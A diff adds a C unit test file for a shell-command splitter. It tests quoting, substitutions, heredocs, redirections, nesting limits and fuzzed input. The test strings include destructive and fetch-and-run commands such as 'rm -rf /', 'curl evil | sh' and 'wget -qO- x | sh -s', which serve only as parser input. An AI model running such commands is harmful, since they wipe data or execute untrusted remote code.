@@ -1,0 +1,446 @@
+/* SPDX-License-Identifier: Apache-2.0
+ *
+ * test_shell.c - sh_split(): words, quotes, operators, compound commands,
+ * substitutions, redirections, here-documents, bounds; sh_cmd_name() and
+ * sh_cmd_has_opt().
+ *
+ * Most cases render the split script as one string (render()) so each
+ * expectation reads like the script: commands joined by " / ", each as
+ * "[assigns] argv <op>" with "{d}" for depth and "$" for substitution.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include "model/shell.h"
+#include "util/diag.h"
+
+static struct arena A;
+
+static int setup(void **state)
+{
+	(void)state;
+	arena_init(&A, 0);
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	(void)state;
+	arena_free(&A);
+	return 0;
+}
+
+static const char *op_name(enum sh_op op)
+{
+	switch (op) {
+	case SH_OP_END: return ".";
+	case SH_OP_SEQ: return ";";
+	case SH_OP_AND: return "&&";
+	case SH_OP_OR: return "||";
+	case SH_OP_PIPE: return "|";
+	case SH_OP_BG: return "&";
+	}
+	return "?";
+}
+
+static char out[8192];
+
+static const char *render(const char *script)
+{
+	struct sh_script sc;
+	int rc = sh_split(script, strlen(script), &A, &sc);
+	if (rc)
+		return "ERROR";
+	size_t o = 0;
+	out[0] = 0;
+	for (size_t i = 0; i < sc.ncmds; i++) {
+		const struct sh_cmd *c = &sc.cmds[i];
+		if (i)
+			o += (size_t)snprintf(out + o, sizeof(out) - o, " / ");
+		if (c->depth)
+			o += (size_t)snprintf(out + o, sizeof(out) - o, "{%d}",
+					      c->depth);
+		if (c->in_substitution)
+			o += (size_t)snprintf(out + o, sizeof(out) - o, "$");
+		for (size_t k = 0; k < c->nassigns; k++)
+			o += (size_t)snprintf(out + o, sizeof(out) - o, "[%s] ",
+					      c->assigns[k].text);
+		for (size_t k = 0; k < c->argc; k++)
+			o += (size_t)snprintf(out + o, sizeof(out) - o, "%s ",
+					      c->argv[k].text);
+		o += (size_t)snprintf(out + o, sizeof(out) - o, "%s",
+				      op_name(c->op_after));
+	}
+	return out;
+}
+
+static void operators(void **state)
+{
+	(void)state;
+	assert_string_equal(render("a b; c && d || e | f & g"),
+			    "a b ; / c && / d || / e | / f & / g .");
+	assert_string_equal(render("a |& b\nc"), "a | / b ; / c .");
+	assert_string_equal(render(""), "");
+	assert_string_equal(render("  \n\n ; ;"), "");
+	assert_string_equal(render("a&&b||c"), "a && / b || / c .");
+}
+
+static void quotes_and_escapes(void **state)
+{
+	(void)state;
+	struct sh_script sc;
+	const char *s = "echo \"a b\" 'c d' e\\ f \"x\\\"y\" 'it''s' \"\\q\"";
+	assert_int_equal(sh_split(s, strlen(s), &A, &sc), 0);
+	assert_int_equal(sc.ncmds, 1);
+	const struct sh_cmd *c = &sc.cmds[0];
+	assert_int_equal(c->argc, 7);
+	assert_string_equal(c->argv[1].text, "a b");
+	assert_string_equal(c->argv[1].raw, "\"a b\"");
+	assert_true(c->argv[1].quoted);
+	assert_false(c->argv[0].quoted);
+	assert_string_equal(c->argv[2].text, "c d");
+	assert_string_equal(c->argv[3].text, "e f");
+	assert_string_equal(c->argv[4].text, "x\"y");
+	assert_string_equal(c->argv[5].text, "its");
+	assert_string_equal(c->argv[6].text, "\\q");  /* \q stays in "" */
+	assert_int_equal(c->argv[1].offset, 5);
+	assert_int_equal(c->argv[2].offset, 11);
+	/* ANSI-C and locale quoting */
+	assert_string_equal(render("printf $'a\\tb' $\"x y\""),
+			    "printf a\\tb x y .");
+	/* unterminated quote: the word runs to the end, no error */
+	assert_string_equal(render("echo 'abc; rm -rf /"),
+			    "echo abc; rm -rf / .");
+	assert_string_equal(render("echo \"abc"), "echo abc .");
+	/* quoted keywords and operators are words */
+	assert_string_equal(render("echo ';' '&&' \"|\" \\; if"),
+			    "echo ; && | ; if .");
+}
+
+static void variables_kept(void **state)
+{
+	(void)state;
+	assert_string_equal(render("echo $HOME ${X:-a b} \"$Y\" $((1 + (2*3)))"),
+			    "echo $HOME ${X:-a b} $Y $((1 + (2*3))) .");
+	assert_string_equal(render("echo ${A:-\"}\"} z"),
+			    "echo ${A:-\"}\"} z .");
+}
+
+static void substitutions(void **state)
+{
+	(void)state;
+	assert_string_equal(render("echo \"$(date +%s)\" end"),
+			    "echo $(date +%s) end . / {1}$date +%s .");
+	assert_string_equal(render("a \"$(b \"$(c 'd e')\")\""),
+			    "a $(b \"$(c 'd e')\") . / {1}$b $(c 'd e') . / "
+			    "{2}$c d e .");
+	assert_string_equal(render("v=`uname -r` make"),
+			    "[v=`uname -r`] make . / {1}$uname -r .");
+	assert_string_equal(render("echo \"`id -u`\"; ls"),
+			    "echo `id -u` ; / {1}$id -u . / ls .");
+	assert_string_equal(render("diff <(ls a) <(ls b)"),
+			    "diff <(ls a) <(ls b) . / {1}$ls a . / {1}$ls b .");
+	assert_string_equal(render("x=$(curl -s u | sh) && y"),
+			    "[x=$(curl -s u | sh)] && / {1}$curl -s u | / "
+			    "{1}$sh . / y .");
+	/* a ')' inside quotes does not close the substitution */
+	assert_string_equal(render("echo $(echo \")\" ) z"),
+			    "echo $(echo \")\" ) z . / {1}$echo ) .");
+	/* case inside $( ): its ')' belong to the patterns */
+	assert_string_equal(render("x=$(case a in a) echo y;; esac) && z"),
+			    "[x=$(case a in a) echo y;; esac)] && / "
+			    "{1}$echo y ; / z .");
+}
+
+static void compound_commands(void **state)
+{
+	(void)state;
+	assert_string_equal(render("(cd /x && make) || { echo fail; exit 1; }"),
+			    "{1}cd /x && / {1}make . / {1}echo fail ; / "
+			    "{1}exit 1 ;");
+	assert_string_equal(render("if [ -f x ]; then rm x; elif true; then :;"
+				   " else echo no; fi"),
+			    "[ -f x ] ; / rm x ; / true ; / : ; / echo no ;");
+	assert_string_equal(render("for p in a b c; do apt-get install $p; done"),
+			    "apt-get install $p ;");
+	assert_string_equal(render("for p in a b\ndo\n  echo $p\ndone"),
+			    "echo $p ;");
+	assert_string_equal(render("while read l; do echo $l; done < f.txt"),
+			    "read l ; / echo $l ;");
+	assert_string_equal(render("until false; do :; done"),
+			    "false ; / : ;");
+	assert_string_equal(render("case $x in a|b) echo ab;; (c) echo c;;"
+				   " *) echo other;; esac; ls"),
+			    "echo ab ; / echo c ; / echo other ; / ls .");
+	assert_string_equal(render("case $x in\n  a)\n    apt-get update\n"
+				   "    ;;\nesac"),
+			    "apt-get update ;");
+	assert_string_equal(render("! grep -q x f && echo y"),
+			    "grep -q x f && / echo y .");
+	assert_string_equal(render("f() { echo x; }; f"),
+			    "{1}echo x ; / f .");
+	assert_string_equal(render("function g { echo y; }"),
+			    "{1}echo y ;");
+	assert_string_equal(render("{echo x"), "{echo x .");
+	assert_string_equal(render("((i++)); echo $i"), "echo $i .");
+	assert_string_equal(render("arr=(a \"b c\" d) && echo ${arr[@]}"),
+			    "[arr=(a b c d)] && / echo ${arr[@]} .");
+}
+
+static void assignments(void **state)
+{
+	(void)state;
+	struct sh_script sc;
+	const char *s = "DEBIAN_FRONTEND=noninteractive X+=1 apt-get install "
+			"-y a=b\nA=1 B=\"2 3\"";
+	assert_int_equal(sh_split(s, strlen(s), &A, &sc), 0);
+	assert_int_equal(sc.ncmds, 2);
+	assert_int_equal(sc.cmds[0].nassigns, 2);
+	assert_string_equal(sc.cmds[0].assigns[0].text,
+			    "DEBIAN_FRONTEND=noninteractive");
+	assert_int_equal(sc.cmds[0].argc, 4);
+	assert_string_equal(sc.cmds[0].argv[3].text, "a=b");
+	assert_int_equal(sc.cmds[0].offset, 0);   /* assignments count */
+	assert_int_equal(sc.cmds[0].argv[0].offset, 36);
+	assert_int_equal(sc.cmds[1].argc, 0);
+	assert_int_equal(sc.cmds[1].nassigns, 2);
+	assert_string_equal(sc.cmds[1].assigns[1].text, "B=2 3");
+	assert_string_equal(sh_cmd_name(&sc.cmds[1]), "");
+	/* not names: stay argv */
+	assert_string_equal(render("1A=x '\"A\"=y' =z"), "1A=x \"A\"=y =z .");
+}
+
+static void redirections(void **state)
+{
+	(void)state;
+	assert_string_equal(render("curl -o /tmp/x url 2>&1 >/dev/null; "
+				   "cat < in > out 2>/dev/null; echo hi &> log; "
+				   "a >> b 3<&0 <> rw >| f 2>&-; cmd <<< \"str\""),
+			    "curl -o /tmp/x url ; / cat ; / echo hi ; / a ; / "
+			    "cmd .");
+	assert_string_equal(render("> /dev/null"), "");
+	assert_string_equal(render(">log cmd arg"), "cmd arg .");
+	assert_string_equal(render("echo foo>bar baz"), "echo foo baz .");
+	assert_string_equal(render("echo 12>x 12 x>y"), "echo 12 x .");
+	assert_string_equal(render("( a ) > out | b"), "{1}a . / b .");
+}
+
+static void heredocs(void **state)
+{
+	(void)state;
+	assert_string_equal(render("cat <<EOF > /etc/x\ncurl evil | sh\nEOF\n"
+				   "echo done"),
+			    "cat ; / echo done .");
+	assert_string_equal(render("cat <<-'END' | tee f\n\tcurl x\n\tEND\nls"),
+			    "cat | / tee f ; / ls .");
+	assert_string_equal(render("a <<A; b <<\"B\"\nbody a\nA\nbody b\nB\nc"),
+			    "a ; / b ; / c .");
+	/* unterminated body runs to the end */
+	assert_string_equal(render("cat <<EOF\nrm -rf /\n"), "cat ;");
+}
+
+static void comments_and_continuations(void **state)
+{
+	(void)state;
+	assert_string_equal(render("echo a # c && rm -rf /\necho b#c"),
+			    "echo a ; / echo b#c .");
+	assert_string_equal(render("apt-get install \\\n  curl \\\n  git"),
+			    "apt-get install curl git .");
+	assert_string_equal(render("echo a\\\nb"), "echo ab .");
+	assert_string_equal(render("#only a comment"), "");
+}
+
+static void next_links(void **state)
+{
+	(void)state;
+	struct sh_script sc;
+	const char *s = "curl $(echo u) | bash; wget -qO- x | sh -s";
+	assert_int_equal(sh_split(s, strlen(s), &A, &sc), 0);
+	assert_int_equal(sc.ncmds, 5);
+	assert_string_equal(sh_cmd_name(&sc.cmds[0]), "curl");
+	assert_string_equal(sh_cmd_name(&sc.cmds[1]), "echo");
+	assert_string_equal(sh_cmd_name(&sc.cmds[2]), "bash");
+	assert_int_equal(sc.cmds[0].op_after, SH_OP_PIPE);
+	assert_int_equal(sc.cmds[0].next, 2);
+	assert_int_equal(sc.cmds[1].next, SH_NONE);
+	assert_int_equal(sc.cmds[2].next, 3);
+	assert_int_equal(sc.cmds[3].next, 4);
+	assert_int_equal(sc.cmds[4].next, SH_NONE);
+	assert_int_equal(sc.cmds[4].op_after, SH_OP_END);
+	/* offsets: first word and one past the last */
+	assert_int_equal(sc.cmds[3].offset, 23);
+	assert_int_equal(sc.cmds[3].end_offset, 34);
+	assert_int_equal(sc.cmds[1].offset, 7);
+	assert_int_equal(sc.cmds[1].end_offset, 13);
+}
+
+static void cmd_helpers(void **state)
+{
+	(void)state;
+	struct sh_script sc;
+	const char *s = "/usr/bin/apt-get -qy install --no-install-recommends "
+			"--opt=1 -oDebug::y=1 x -- -z";
+	assert_int_equal(sh_split(s, strlen(s), &A, &sc), 0);
+	const struct sh_cmd *c = &sc.cmds[0];
+	assert_string_equal(sh_cmd_name(c), "apt-get");
+	assert_true(sh_cmd_has_opt(c, "-y"));
+	assert_true(sh_cmd_has_opt(c, "-q"));
+	assert_true(sh_cmd_has_opt(c, "-qy"));
+	assert_false(sh_cmd_has_opt(c, "-x"));
+	assert_true(sh_cmd_has_opt(c, "--no-install-recommends"));
+	assert_true(sh_cmd_has_opt(c, "--opt"));
+	assert_false(sh_cmd_has_opt(c, "--op"));
+	assert_false(sh_cmd_has_opt(c, "-D"));   /* -oDebug:: is no cluster */
+	assert_false(sh_cmd_has_opt(c, "-z"));   /* after -- */
+	assert_false(sh_cmd_has_opt(c, "install") == false);
+	assert_false(sh_cmd_has_opt(c, ""));
+	assert_false(sh_cmd_has_opt(NULL, "-y"));
+	assert_string_equal(sh_cmd_name(NULL), "");
+}
+
+static void depth_bound(void **state)
+{
+	(void)state;
+	struct sh_script sc;
+	char buf[4 * SH_MAX_DEPTH + 16];
+	size_t o = 0;
+	/* SH_MAX_DEPTH - 1 nested substitutions: fine */
+	for (int i = 0; i < SH_MAX_DEPTH - 1; i++) {
+		buf[o++] = '$';
+		buf[o++] = '(';
+	}
+	buf[o++] = 'x';
+	for (int i = 0; i < SH_MAX_DEPTH - 1; i++)
+		buf[o++] = ')';
+	assert_int_equal(sh_split(buf, o, &A, &sc), 0);
+	assert_int_equal(sc.ncmds, SH_MAX_DEPTH);  /* one per level */
+	assert_int_equal(sc.cmds[SH_MAX_DEPTH - 1].depth, SH_MAX_DEPTH - 1);
+	assert_string_equal(sc.cmds[SH_MAX_DEPTH - 1].argv[0].text, "x");
+	/* one more: BH_ELIMIT */
+	o = 0;
+	for (int i = 0; i < SH_MAX_DEPTH; i++) {
+		buf[o++] = '$';
+		buf[o++] = '(';
+	}
+	assert_int_equal(sh_split(buf, o, &A, &sc), BH_ELIMIT);
+	/* "((" is an arithmetic command, "( (" nests subshells */
+	memset(buf, '(', SH_MAX_DEPTH + 2);
+	assert_int_equal(sh_split(buf, SH_MAX_DEPTH + 2, &A, &sc), 0);
+	for (int i = 0; i < SH_MAX_DEPTH + 2; i++)
+		memcpy(buf + 2 * i, "( ", 2);
+	assert_int_equal(sh_split(buf, 2 * (SH_MAX_DEPTH + 2), &A, &sc),
+			 BH_ELIMIT);
+	/* '{' groups and cases count too */
+	o = 0;
+	for (int i = 0; i < SH_MAX_DEPTH; i++) {
+		memcpy(buf + o, "{ ", 2);
+		o += 2;
+	}
+	assert_int_equal(sh_split(buf, o, &A, &sc), BH_ELIMIT);
+}
+
+/* Deterministic pseudo-random scripts from shell-ish bytes: no crash, no
+ * hang, and offsets always inside the input (ASan run checks memory). */
+static void hostile_inputs(void **state)
+{
+	(void)state;
+	static const char alphabet[] = "ab $(){}[]'\"`\\|&;<>#\n\t=-EOF!*";
+	unsigned seed = 12345;
+	char buf[512];
+	for (int round = 0; round < 3000; round++) {
+		size_t n = (size_t)(round % 500) + 1;
+		for (size_t i = 0; i < n; i++) {
+			seed = seed * 1103515245u + 12345u;
+			buf[i] = alphabet[(seed >> 16) % (sizeof(alphabet) - 1)];
+		}
+		struct arena a;
+		arena_init(&a, 0);
+		struct sh_script sc;
+		int rc = sh_split(buf, n, &a, &sc);
+		assert_true(rc == 0 || rc == BH_ELIMIT);
+		for (size_t i = 0; rc == 0 && i < sc.ncmds; i++) {
+			assert_true(sc.cmds[i].offset < n);
+			assert_true(sc.cmds[i].end_offset <= n);
+			assert_true(sc.cmds[i].next == SH_NONE ||
+				    sc.cmds[i].next < sc.ncmds);
+			for (size_t k = 0; k < sc.cmds[i].argc; k++)
+				assert_true(sc.cmds[i].argv[k].offset < n);
+		}
+		arena_free(&a);
+	}
+}
+
+/* Big inputs stay linear: 1 MiB of pipes and of nested-looking text. */
+static void linear_time(void **state)
+{
+	(void)state;
+	size_t n = (size_t)1 << 20;
+	char *buf = malloc(n);
+	assert_non_null(buf);
+	for (size_t i = 0; i < n; i += 2) {
+		buf[i] = 'a';
+		buf[i + 1] = '|';
+	}
+	struct arena a;
+	arena_init(&a, 0);
+	struct sh_script sc;
+	clock_t t0 = clock();
+	assert_int_equal(sh_split(buf, n, &a, &sc), 0);
+	assert_int_equal(sc.ncmds, n / 2);
+	arena_free(&a);
+	/* one giant word of quotes and substitutions that never close */
+	for (size_t i = 0; i < n; i++)
+		buf[i] = "\"$'`\\"[i % 5];
+	arena_init(&a, 0);
+	int rc = sh_split(buf, n, &a, &sc);
+	assert_true(rc == 0 || rc == BH_ELIMIT);
+	arena_free(&a);
+	memset(buf, '\'', n);
+	arena_init(&a, 0);
+	assert_int_equal(sh_split(buf, n, &a, &sc), 0);
+	arena_free(&a);
+	double secs = (double)(clock() - t0) / CLOCKS_PER_SEC;
+	assert_true(secs < 5.0);
+	free(buf);
+}
+
+static void arena_cap_is_enomem(void **state)
+{
+	(void)state;
+	struct arena a;
+	arena_init(&a, 256);
+	struct sh_script sc;
+	const char *s = "echo a b c d e f g h i j k l m n o p q r s t u v w x y z";
+	assert_int_equal(sh_split(s, strlen(s), &a, &sc), BH_ENOMEM);
+	arena_free(&a);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(operators),
+		cmocka_unit_test(quotes_and_escapes),
+		cmocka_unit_test(variables_kept),
+		cmocka_unit_test(substitutions),
+		cmocka_unit_test(compound_commands),
+		cmocka_unit_test(assignments),
+		cmocka_unit_test(redirections),
+		cmocka_unit_test(heredocs),
+		cmocka_unit_test(comments_and_continuations),
+		cmocka_unit_test(next_links),
+		cmocka_unit_test(cmd_helpers),
+		cmocka_unit_test(depth_bound),
+		cmocka_unit_test(hostile_inputs),
+		cmocka_unit_test(linear_time),
+		cmocka_unit_test(arena_cap_is_enomem),
+	};
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
